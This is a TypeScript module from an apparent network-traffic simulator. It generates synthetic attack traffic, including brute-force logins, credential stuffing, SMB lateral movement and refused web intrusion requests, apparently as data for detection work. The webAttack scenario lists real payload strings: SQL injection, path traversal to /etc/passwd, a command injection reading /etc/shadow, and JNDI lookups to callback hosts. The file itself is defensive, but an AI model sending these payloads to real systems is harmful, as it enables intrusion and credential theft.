import { kerberosScript, rdpScript, smbScript } from '../models/apps.ts';
import { ftpScript } from '../models/mail-and-files.ts';
import { http, SSH_CLIENTS, sshOpen, sshPassword, tlsExchange } from '../protocols/apps.ts';
import { TLS_CLIENTS } from '../protocols/tls.ts';
import type { Host } from '../sim/hosts.ts';
import { MS, SECOND } from '../sim/sim.ts';
import { connect, type Message, type Script } from '../sim/tcp.ts';
import { cast, insider, outsider, series, server, type Scenario, type Scene } from './context.ts';

const webServer = (s: Scene): Host => server(s, 'intranet', 'nas');
const NAMES =
  'admin root test user guest oracle postgres ubuntu backup support operator www ftp mysql git deploy info sales office service'.split(
    ' ',
  );

interface Guessing {
  from: Host;
  to: Host;
  port: number;
  tries: number;
  meanMs: number;
  note: string;
  script: (i: number) => Script;
  ending?: 'fin' | 'server-fin' | 'rst';
}

function guess(s: Scene, g: Guessing): void {
  cast(s, [g.from], [g.to], `${g.tries} ${g.note}`);
  series(
    s,
    g.tries,
    () => s.rng.exp(g.meanMs) * MS,
    (i) =>
      connect(s.sim, s.sim.now, g.from, g.to, g.port, {
        tag: s.tag,
        script: g.script(i),
        ending: g.ending ?? 'server-fin',
      }),
  );
}

const sshGuess: Scenario = (s) => {
  const client = SSH_CLIENTS[s.heldOut ? 'paramiko' : 'libssh2']!;
  function* script(): Generator<Message, void> {
    yield* sshOpen(s.sim, client);
    for (let k = 0; k < (s.heldOut ? 3 : 1); k++) yield* sshPassword(s.sim, false, 60);
  }
  guess(s, {
    from: outsider(s),
    to: webServer(s),
    port: 22,
    tries: Math.max(15, Math.round(180 * s.intensity)),
    meanMs: s.heldOut ? 2500 : 900,
    note: 'SSH connections with wrong passwords',
    script,
  });
};

const ftpGuess: Scenario = (s) => {
  const to = server(s, 'backup1', 'nas');
  guess(s, {
    from: s.heldOut ? outsider(s) : insider(s, 10),
    to,
    port: 21,
    tries: Math.max(15, Math.round(150 * s.intensity)),
    meanMs: 700,
    note: 'FTP logins refused',
    script: (i) =>
      ftpScript(s.sim, {
        user: s.heldOut ? 'admin' : NAMES[i % NAMES.length]!,
        password: s.rng.text(8),
        ok: false,
        address: to.ip4,
        linesMs: 15,
      }),
  });
};

const rdpGuess: Scenario = (s) => {
  const from = s.heldOut ? outsider(s) : insider(s, 10);
  guess(s, {
    from,
    to: server(s, 'files1', 'laptop1'),
    port: 3389,
    tries: Math.max(15, Math.round(150 * s.intensity)),
    meanMs: 800,
    note: 'RDP logons refused',
    script: (i) => rdpScript(s.sim, i % 3 ? 'administrator' : NAMES[i % NAMES.length]!, { ok: false, name: 'FILES1' }),
    ending: 'rst',
  });
};

const smbGuess: Scenario = (s) => {
  guess(s, {
    from: insider(s, 10),
    to: server(s, 'files1', 'nas'),
    port: 445,
    tries: Math.max(15, Math.round(200 * s.intensity)),
    meanMs: s.heldOut ? 1500 : 300,
    note: 'SMB logons refused',
    script: (i) =>
      smbScript(s.sim, {
        user: s.heldOut ? `user${i % 20}` : 'administrator',
        workstation: 'PC99',
        share: '\\\\files1\\IPC$',
        ok: false,
      }),
    ending: 'fin',
  });
};

const kerberosGuess: Scenario = (s) => {
  guess(s, {
    from: insider(s, 10),
    to: server(s, 'dc1', 'nas'),
    port: 88,
    tries: Math.max(20, Math.round(250 * s.intensity)),
    meanMs: 250,
    note: 'Kerberos preauthentications refused',
    script: (i) =>
      kerberosScript(
        s.sim,
        s.heldOut ? `user${i % 40}` : 'administrator',
        s.heldOut && i % 4 === 0 ? 'unknown-user' : 'as-wrong',
      ),
    ending: 'fin',
  });
};

const httpGuess: Scenario = (s) => {
  const to = webServer(s);
  guess(s, {
    from: outsider(s),
    to,
    port: 80,
    tries: Math.max(20, Math.round(300 * s.intensity)),
    meanMs: 250,
    note: 'logins refused over HTTP',
    script: () =>
      http(
        s.sim,
        s.heldOut
          ? {
              host: `www.${s.net.spec.domain}`,
              path: '/admin/',
              agent: 'Mozilla/5.0 (Hydra)',
              headers: [`Authorization: Basic ${Buffer.from(`admin:${s.rng.text(8)}`).toString('base64')}`],
              status: '401 Unauthorized',
              responseHeaders: ['WWW-Authenticate: Basic realm="admin"'],
              responseBody: 'denied',
            }
          : {
              method: 'POST',
              host: `www.${s.net.spec.domain}`,
              path: '/login',
              agent: 'python-requests/2.31.0',
              headers: ['Content-Type: application/x-www-form-urlencoded'],
              body: `username=admin&password=${s.rng.text(8)}`,
              status: '401 Unauthorized',
              responseBody: 'Invalid username or password',
            },
      ),
    ending: 'fin',
  });
};

/** Other people's leaked passwords tried once each, from many addresses; a few work. */
const stuffing: Scenario = (s) => {
  const to = webServer(s);
  const sources = Array.from({ length: Math.max(8, Math.round(40 * s.intensity)) }, (_, i) => outsider(s, `proxy${i}`));
  const tries = Math.max(40, Math.round(500 * s.intensity));
  cast(s, sources, [to], `${tries} logins of as many users from ${sources.length} addresses`);
  series(
    s,
    tries,
    () => s.rng.exp(400) * MS,
    (i) => {
      const ok = s.rng.chance(0.015);
      const script = http(s.sim, {
        method: 'POST',
        host: `shop.${s.net.spec.domain}`,
        path: s.heldOut ? '/api/v1/session' : '/login',
        agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
        headers: [`Content-Type: ${s.heldOut ? 'application/json' : 'application/x-www-form-urlencoded'}`],
        body: s.heldOut
          ? `{"email":"${s.rng.text(7)}@mail.example","password":"${s.rng.text(9)}"}`
          : `email=${s.rng.text(7)}%40mail.example&password=${s.rng.text(9)}`,
        status: ok ? '302 Found' : '401 Unauthorized',
        responseBody: ok ? '' : 'wrong',
        serverMs: 60,
      });
      connect(s.sim, s.sim.now, sources[i % sources.length]!, to, 80, { tag: s.tag, script, ending: 'fin' });
    },
  );
};

/** Accounts made by a script: one form, many names; or SIP registrations of every extension. */
const registrationWeb: Scenario = (s) => {
  const to = webServer(s);
  const from = outsider(s);
  const count = Math.max(30, Math.round(300 * s.intensity));
  cast(s, [from], [to], `${count} accounts registered`);
  series(
    s,
    count,
    () => s.rng.exp(500) * MS,
    (i) => {
      const script = http(s.sim, {
        method: 'POST',
        host: `shop.${s.net.spec.domain}`,
        path: s.heldOut ? '/api/v1/users' : '/register',
        agent: 'Go-http-client/1.1',
        headers: ['Content-Type: application/x-www-form-urlencoded'],
        body: `email=u${1000 + i}%40mail.example&password=Passw0rd${i}&accept=1`,
        status: '201 Created',
        responseBody: 'welcome',
      });
      connect(s.sim, s.sim.now, from, to, 80, { tag: s.tag, script, ending: 'fin' });
    },
  );
};
const registrationSip: Scenario = (s) => {
  const to = webServer(s);
  const from = outsider(s);
  const count = Math.max(40, Math.round(600 * s.intensity));
  cast(s, [from], [to], `${count} SIP registrations`);
  s.sim.at(s.start, () => s.sim.label(s.tag, 17, from.ip4, to.ip4, 5071, 5060));
  series(
    s,
    count,
    () => s.rng.exp(60) * MS,
    (i) => {
      const who = `${s.heldOut ? 2000 + i : 100 + i}@${Array.from(to.ip4).join('.')}`;
      const head = (first: string, extra: string): Uint8Array =>
        new TextEncoder().encode(
          `${first}\r\nVia: SIP/2.0/UDP ${Array.from(from.ip4).join('.')}:5071;branch=z9hG4bK-${i}\r\nFrom: <sip:${who}>;tag=${i}a\r\nTo: <sip:${who}>\r\nCall-ID: ${i}@reg\r\nCSeq: 1 REGISTER\r\n${extra}Content-Length: 0\r\n\r\n`,
        );
      s.sim.udp(
        from,
        to,
        false,
        5071,
        5060,
        head(
          `REGISTER sip:${Array.from(to.ip4).join('.')} SIP/2.0`,
          'Max-Forwards: 70\r\nContact: <sip:a@1.2.3.4>\r\nExpires: 120\r\n',
        ),
      );
      s.sim.at(s.sim.now + to.rtt + MS, () =>
        s.sim.udp(
          to,
          from,
          false,
          5060,
          5071,
          head('SIP/2.0 401 Unauthorized', 'WWW-Authenticate: Digest realm="pbx",nonce="4f2a"\r\n'),
        ),
      );
    },
  );
};

/** Requests that try to break in: database, path and template injections of our own making; all refused. */
const webAttack: Scenario = (s) => {
  const to = webServer(s);
  const from = outsider(s);
  const tuning = [
    "/item?id=1'%20OR%20'1'='1'--",
    '/item?id=1%20UNION%20SELECT%20user,password%20FROM%20accounts--',
    '/download?file=../../../../etc/passwd',
    '/static/..%2f..%2f..%2fwindows/win.ini',
    '/search?q=<script>alert(1)</script>',
    '/cgi-bin/status?cmd=;cat%20/etc/shadow',
    '/.env',
    '/.git/config',
    '/wp-login.php',
    '/phpmyadmin/index.php',
  ];
  const held = [
    '/news?id=7);SELECT%20pg_sleep(5)--',
    '/export?path=....//....//....//etc/hosts',
    '/api?x=%24%7B7*7%7D',
    '/vendor/phpunit/src/Util/PHP/eval-stdin.php',
    '/actuator/env',
    '/console/?u=|id',
    "/login?u=admin'--",
    '/boaform/admin/formLogin',
    '/solr/admin/cores?q=${jndi:dns://x.invalid/a}',
    '/owa/auth/x.js',
  ];
  const paths = s.heldOut ? held : tuning;
  const count = Math.max(6, Math.round(60 * s.intensity));
  cast(s, [from], [to], `${count} hostile web requests`);
  series(
    s,
    count,
    () => s.rng.exp(900) * MS,
    (i) => {
      const jndi = i % 5 === 4;
      const script = http(s.sim, {
        host: `www.${s.net.spec.domain}`,
        path: jndi ? '/' : paths[i % paths.length]!,
        agent: jndi ? '${jndi:ldap://callback.invalid:1389/a}' : s.heldOut ? 'Mozilla/5.0 zgrab/0.x' : 'sqlmap/1.7',
        headers: jndi ? ['X-Api-Version: ${jndi:ldap://callback.invalid/x}'] : [],
        status: s.rng.pick(['403 Forbidden', '404 Not Found', '500 Internal Server Error']),
        responseBody: 'error',
      });
      connect(s.sim, s.sim.now, from, to, 80, { tag: s.tag, script, ending: 'fin' });
    },
  );
};

/** From one machine to several over SMB: the administrative share, a program copied, the service pipe. */
const lateral: Scenario = (s) => {
  const from = insider(s, 11);
  const targets = s.net.hosts
    .filter((h) => h.os === 'windows' && h !== from)
    .slice(0, Math.max(3, Math.round(8 * Math.min(1.5, s.intensity))));
  cast(s, [from], targets, `administrative shares of ${targets.length} machines`);
  series(
    s,
    targets.length,
    () => s.rng.exp(s.heldOut ? 60 : 20) * SECOND,
    (i) => {
      const to = targets[i]!;
      const name = `${s.rng.text(8)}.exe`;
      const common = { user: 'administrator', workstation: from.name.toUpperCase() };
      connect(s.sim, s.net.arpFor(from, to, s.sim.now), from, to, 445, {
        tag: s.tag,
        script: smbScript(s.sim, {
          ...common,
          share: `\\\\${to.name}\\ADMIN$`,
          files: [{ name: s.heldOut ? `Temp\\${name}` : name, size: 180_000, write: true }],
          thinkMs: 30,
        }),
      });
      connect(s.sim, s.sim.now + 2 * SECOND, from, to, 445, {
        tag: s.tag,
        script: smbScript(s.sim, {
          ...common,
          share: `\\\\${to.name}\\IPC$`,
          pipe: true,
          files: [
            { name: 'svcctl', size: 600, write: true },
            { name: s.heldOut ? 'atsvc' : 'svcctl', size: 400 },
          ],
          thinkMs: 10,
        }),
      });
      connect(s.sim, s.sim.now + 4 * SECOND, from, to, 135, { tag: s.tag, ending: 'fin' });
    },
  );
};

/** A public web page that a crawler reads from end to end through a port forward: many requests, none hostile. */
const crawler: Scenario = (s) => {
  const to = webServer(s);
  const from = outsider(s, 'crawler');
  const count = Math.round(400 * s.intensity);
  cast(s, [from], [to], 'a crawler reads the whole site');
  const site = s.net.sites[7]!;
  series(
    s,
    Math.ceil(count / 8),
    () => s.rng.exp(6) * SECOND,
    () => {
      const script = s.heldOut
        ? tlsExchange(
            s.sim,
            { client: TLS_CLIENTS['curl']!, sni: `www.${s.net.spec.domain}`, chain: site.chain, tls13: true },
            Array.from({ length: 8 }, (): [number, number, number] => [220, s.rng.int(2000, 12_000), s.rng.exp(400)]),
          )
        : pages(s);
      connect(s.sim, s.sim.now, from, to, s.heldOut ? 443 : 80, { tag: s.tag, script });
    },
  );
};

function* pages(s: Scene): Generator<Message, void> {
  for (let i = 0; i < 8; i++)
    yield* http(s.sim, {
      host: `www.${s.net.spec.domain}`,
      path: i === 0 ? '/robots.txt' : `/articles/${s.rng.int(1, 900)}.html`,
      agent: 'Mozilla/5.0 (compatible; ExampleCrawler/2.1; +http://crawler.example/)',
      status: s.rng.chance(0.05) ? '404 Not Found' : '200 OK',
      responseBody: `<html><body>${'<p>An article about gardens.</p>'.repeat(40)}</body></html>`,
      thinkMs: s.rng.exp(700),
    });
}

export const ACCESS: Readonly<Record<string, Readonly<Record<string, Scenario>>>> = {
  'brute-force': {
    ssh: sshGuess,
    ftp: ftpGuess,
    rdp: rdpGuess,
    smb: smbGuess,
    kerberos: kerberosGuess,
    http: httpGuess,
  },
  'credential-stuffing': { http: stuffing },
  'mass-registration': { http: registrationWeb, sip: registrationSip },
  'intrusion-attempt': { web: webAttack },
  'lateral-movement': { smb: lateral },
};
export const ACCESS_LOOKALIKES: Readonly<Record<string, Scenario>> = { crawler };
